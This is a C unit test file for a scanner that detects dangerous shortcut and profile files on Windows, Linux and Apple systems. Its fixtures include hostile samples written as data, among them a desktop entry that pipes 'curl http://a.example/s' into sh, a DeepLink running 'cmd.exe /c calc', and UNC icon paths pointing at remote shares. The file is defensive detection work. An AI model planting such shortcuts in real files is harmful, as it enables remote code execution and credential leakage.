/* test_shortcut.c - shortcuts that are text: addresses, commands, desktops elsewhere, profiles. */
#include "exam_test.h"

#include "document/document.h"

#include <setjmp.h>
#include <stdarg.h>

#include <cmocka.h>

static struct exam_test *t;

static int setup(void **state)
{
	(void)state;
	t = exam_test_new();
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	exam_test_free(t);
	return 0;
}

static void open_text(const char *name, const char *text)
{
	exam_test_open(t, document_shortcut, text_span(text), name);
}

static void expect_nothing(const char *name, const char *text)
{
	open_text(name, text);
	if (t->exam.found_count)
		exam_test_show(t);
	assert_int_equal(t->exam.found_count, 0);
}

static void url(void **state)
{
	(void)state;
	expect_nothing("a.url", "[InternetShortcut]\r\nURL=https://a.example/x\r\nIconFile=https://a.example/favicon.ico\r\n");
	assert_true(exam_test_url(t, "https://a.example/x"));
	open_text("a.url", "[InternetShortcut]\nURL=file://192.0.2.1/share/a.exe\n");
	assert_true(exam_test_found(t, FINDING_LNK_REMOTE, "file://192.0.2.1/share/a.exe"));
	open_text("a.url", "[InternetShortcut]\nURL=http://a.example\nIconFile=\\\\192.0.2.1\\i\\a.ico\n");
	assert_true(exam_test_found(t, FINDING_LNK_REMOTE, "\\\\192.0.2.1\\i\\a.ico"));
	open_text("a.url", "[InternetShortcut]\nURL=search-ms:query=x&crumb=location:\\\\192.0.2.1\\a\n");
	assert_true(exam_test_found(t, FINDING_CUSTOM_PROTOCOL, "search-ms:query=x"));
	open_text("a.url", "[InternetShortcut]\nURL=C:\\Program Files\\x\\y.exe\nWorkingDirectory=\\\\a.example@ssl\\w\n");
	assert_true(exam_test_found(t, FINDING_LNK_REMOTE, "\\\\a.example@ssl\\w"));
}

static void desktop_entry(void **state)
{
	(void)state;
	open_text("a.desktop", "[Desktop Entry]\nType=Application\nExec=bash -c \"curl http://a.example/s | sh\"\n");
	assert_true(exam_test_found(t, FINDING_LNK_COMMAND, "bash -c"));
	assert_true(exam_test_url(t, "http://a.example/s"));
	expect_nothing("a.desktop", "[Desktop Entry]\nType=Application\nExec=gedit %U\nIcon=gedit\n");
}

static void explorer_command(void **state)
{
	(void)state;
	open_text("a.scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\x\\y.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n");
	assert_true(exam_test_found(t, FINDING_LNK_REMOTE, "192.0.2.1"));
	expect_nothing("a.scf", "[Shell]\r\nCommand=2\r\nIconFile=explorer.exe,3\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n");
	open_text("a.theme", "[Theme]\nDisplayName=x\nBrandImage=\\\\192.0.2.1\\x.png\n");
	assert_true(exam_test_found(t, FINDING_LNK_REMOTE, "192.0.2.1"));
	expect_nothing("a.theme", "[Control Panel\\Desktop]\nWallpaper=%SystemRoot%\\web\\wallpaper\\img0.jpg\n");
}

static void settings(void **state)
{
	(void)state;
	open_text("a.settingcontent-ms", "<?xml version=\"1.0\"?><PCSettings><SearchableContent><ApplicationInformation>"
					 "<DeepLink>%windir%\\system32\\cmd.exe /c calc &amp; x</DeepLink>"
					 "</ApplicationInformation></SearchableContent></PCSettings>");
	assert_true(exam_test_found(t, FINDING_LNK_COMMAND, "cmd.exe /c calc & x"));
	open_text("a.library-ms", "<?xml version=\"1.0\"?><libraryDescription><searchConnectorDescriptionList>"
				  "<searchConnectorDescription><simpleLocation><url>\\\\192.0.2.1\\s</url></simpleLocation>"
				  "</searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>");
	assert_true(exam_test_found(t, FINDING_LNK_REMOTE, "\\\\192.0.2.1\\s"));
	expect_nothing("a.library-ms", "<?xml version=\"1.0\"?><libraryDescription><simpleLocation>"
				       "<url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation>"
				       "</libraryDescription>");
}

static void remote_desktop(void **state)
{
	static const char *const own[] = { "office.example", NULL };

	(void)state;
	open_text("a.rdp", "screen mode id:i:2\r\nfull address:s:192.0.2.9:3389\r\ndrivestoredirect:s:*\r\n"
			   "redirectclipboard:i:1\r\nremoteapplicationprogram:s:||Check\r\n");
	assert_true(exam_test_found(t, FINDING_LNK_REMOTE, "192.0.2.9:3389, hands over the disks, hands over the clipboard"));
	expect_nothing("a.rdp", "screen mode id:i:2\r\nfull address:s:terminal01\r\ndrivestoredirect:s:*\r\n");
	t->settings.own_domains = own;
	expect_nothing("a.rdp", "full address:s:rds.office.example\r\n");
}

static void property_lists(void **state)
{
	(void)state;
	open_text("a.mobileconfig", "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>PayloadContent</key><array><dict>"
				    "<key>PayloadType</key><string>com.apple.vpn.managed</string></dict><dict>"
				    "<key>PayloadType</key><string>com.apple.security.root</string></dict></array>"
				    "<key>PayloadType</key><string>Configuration</string></dict></plist>");
	assert_true(exam_test_found(t, FINDING_PROFILE, "VPN, root certificate"));
	expect_nothing("a.webloc", "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>URL</key>"
				   "<string>https://a.example/?a=1&amp;b=2</string></dict></plist>");
	assert_true(exam_test_url(t, "https://a.example/?a=1&b=2"));
}

/* Behind the head of its signature; in binary; and a page that has nothing to do with it. */
static void sealed_property_lists(void **state)
{
	static const char list[] = "0\x82\x03\x21\x06\x09*\x86H\xfe\xff<?xml version=\"1.0\"?><plist><dict><key>PayloadType</key>"
				   "<string>com.apple.mdm</string></dict></plist>\xa0\x82\x01";

	(void)state;
	open_text("a.mobileconfig", list);
	assert_true(exam_test_found(t, FINDING_PROFILE, "device management"));
	expect_nothing("a.webloc", "bplist00\xd1\x01\x02SURL_\x10\x14https://a.example/b\x08");
	assert_true(exam_test_url(t, "https://a.example/b"));
	open_text("a.searchConnector-ms", "<?xml version=\"1.0\"?><searchConnectorDescription><simpleLocation>"
					  "<url>\\\\192.0.2.1\\s</url></simpleLocation></searchConnectorDescription>");
	assert_int_equal(t->exam.found_count, 1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(url, setup, teardown),
		cmocka_unit_test_setup_teardown(desktop_entry, setup, teardown),
		cmocka_unit_test_setup_teardown(explorer_command, setup, teardown),
		cmocka_unit_test_setup_teardown(settings, setup, teardown),
		cmocka_unit_test_setup_teardown(remote_desktop, setup, teardown),
		cmocka_unit_test_setup_teardown(property_lists, setup, teardown),
		cmocka_unit_test_setup_teardown(sealed_property_lists, setup, teardown),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
